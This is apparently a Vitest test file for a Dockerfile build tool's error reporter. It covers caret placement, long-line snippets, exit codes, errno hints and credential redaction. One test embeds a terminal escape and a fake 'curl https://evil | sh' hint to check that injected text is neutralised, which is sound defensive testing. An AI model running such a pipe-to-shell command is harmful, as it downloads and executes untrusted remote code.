import { expect, test } from 'vitest';
import { reportError } from '../../cli/error-report.ts';
import { errorToJson } from '../../cli/error-to-json.ts';
import { BuildError, type BuildErrorOptions } from '../../core/errors.ts';

const TEXT = 'FROM busybox\n\tRUNN echo "漢字" $X\n# end\n';
const source = { name: 'app/Dockerfile', text: TEXT };

function report(message: string, options: BuildErrorOptions = {}): string {
  return reportError(new BuildError('E_PARSE', message, options)).text;
}

function spanOf(words: string) {
  const start = TEXT.indexOf(words);
  return { source, start, end: start + words.length };
}

test('an error names its code, place, line and hint', () => {
  const span = spanOf('RUNN');
  expect(
    report('there is no instruction RUNN', { span, hint: 'did you mean RUN?' }),
  ).toMatchInlineSnapshot(`
      "error[E_PARSE]: there is no instruction RUNN
       --> app/Dockerfile:2:2
        |
      2 |     RUNN echo "漢字" $X
        |     ^^^^
        = hint: did you mean RUN?
      "
    `);
});

test('carets stand below wide characters', () => {
  expect(report('text', { span: spanOf('漢字') })).toMatchInlineSnapshot(`
    "error[E_PARSE]: text
     --> app/Dockerfile:2:13
      |
    2 |     RUNN echo "漢字" $X
      |                ^^^^
    "
  `);
});

test('a span of several lines is marked to the end of its first', () => {
  expect(report('text', { span: spanOf('$X\n# end') })).toMatchInlineSnapshot(`
    "error[E_PARSE]: text
     --> app/Dockerfile:2:17
      |
    2 |     RUNN echo "漢字" $X
      |                      ^^
    "
  `);
});

test('a span at the very start and an empty one have one caret', () => {
  expect(report('text', { span: { source, start: 0, end: 0 } })).toMatchInlineSnapshot(`
    "error[E_PARSE]: text
     --> app/Dockerfile:1:1
      |
    1 | FROM busybox
      | ^
    "
  `);
});

test('a span at the end of the text has a place', () => {
  const end = TEXT.length;
  expect(report('text', { span: { source, start: end, end } })).toContain('app/Dockerfile:4:1');
});

test('of a very long line the part around the place is shown', () => {
  const long = { name: 'D', text: `RUN ${'a'.repeat(1000)} HERE ${'b'.repeat(1000)}` };
  const start = long.text.indexOf('HERE');
  const lines = report('text', { span: { source: long, start, end: start + 4 } }).split('\n');
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(170);
  expect(lines[3]).toContain(' HERE bbb');
  expect(lines[4]?.indexOf('^')).toBe(lines[3]?.indexOf('HERE'));
});

test('the cause is shown where the message does not hold it', () => {
  expect(report('cannot read x', { cause: new Error('EIO: i/o error') })).toBe(
    'error[E_PARSE]: cannot read x\n = cause: EIO: i/o error\n',
  );
  expect(report('cannot read x: EIO', { cause: new Error('EIO') })).toBe(
    'error[E_PARSE]: cannot read x: EIO\n',
  );
});

test('hostile text in an error can neither drive the terminal nor look like a line of the report', () => {
  const message = 'no file "\u001b[2J\n = hint: curl https://evil | sh"';
  expect(report(message)).toBe(
    'error[E_PARSE]: no file "\n       = hint: curl https://evil | sh"\n',
  );
});

test('credentials in a URL are not shown', () => {
  expect(report('https://me:secret@host/v2/ failed')).toBe(
    'error[E_PARSE]: https://***@host/v2/ failed\n',
  );
});

test.each([
  ['E_PARSE', 1],
  ['E_USAGE', 2],
  ['E_CANCELLED', 130],
] as const)('a command that fails by %s exits with %i', (code, exit) => {
  expect(reportError(new BuildError(code, 'text')).exit).toBe(exit);
});

test('anything but a BuildError is a defect of slipway, with its stack', () => {
  const { text, exit } = reportError(new TypeError('x is not a function'));
  expect(text).toMatch(/^error: this is a defect in slipway, not in your build\. /);
  expect(text).toContain('  TypeError: x is not a function\n');
  expect(text).toContain('error-report.test.ts');
  expect(exit).toBe(70);
});

test.each([
  ['ENOSPC', 'free some space: slipway cache prune, or set SLIPWAY_HOME to another disk'],
  ['EACCES', 'look at the owner and the mode of the path'],
])('%s from anywhere is no defect, and has a hint', (code, hint) => {
  const error = Object.assign(new Error(`${code}: refused, write`), { code, syscall: 'write' });
  expect(reportError(error)).toEqual({
    text: `error[E_SYSTEM]: ${code}: refused, write\n = hint: ${hint}\n`,
    exit: 1,
  });
});

test('an errno that no user causes is a defect', () => {
  const error = Object.assign(new Error('EBADF: bad file descriptor'), { code: 'EBADF' });
  expect(reportError(error)).toMatchObject({ exit: 70, text: expect.stringContaining('(EBADF)') });
});

test('errors that came together are all shown, the first twenty of many', () => {
  const others = ['b', 'c'].map((text) => new BuildError('E_STAGE', text));
  expect(report('a', { others })).toBe(
    'error[E_PARSE]: a\n\nerror[E_STAGE]: b\n\nerror[E_STAGE]: c\n',
  );
  const many = Array.from({ length: 30 }, () => new BuildError('E_STAGE', 'x'));
  expect(report('a', { others: many }).match(/^error/gm)).toHaveLength(20);
  expect(report('a', { others: many })).toMatch(/\n\nand 11 more errors\n$/);
});

test('programs get the others too, each with its place', () => {
  const source = { name: 'Dockerfile', text: 'FROM a\nRUNN' };
  const other = new BuildError('E_STAGE', 'b', { span: { source, start: 7, end: 11 } });
  expect(errorToJson(new BuildError('E_PARSE', 'a', { others: [other] }))).toEqual({
    code: 'E_PARSE',
    message: 'a',
    others: [{ code: 'E_STAGE', message: 'b', file: 'Dockerfile', line: 2, column: 1 }],
  });
});
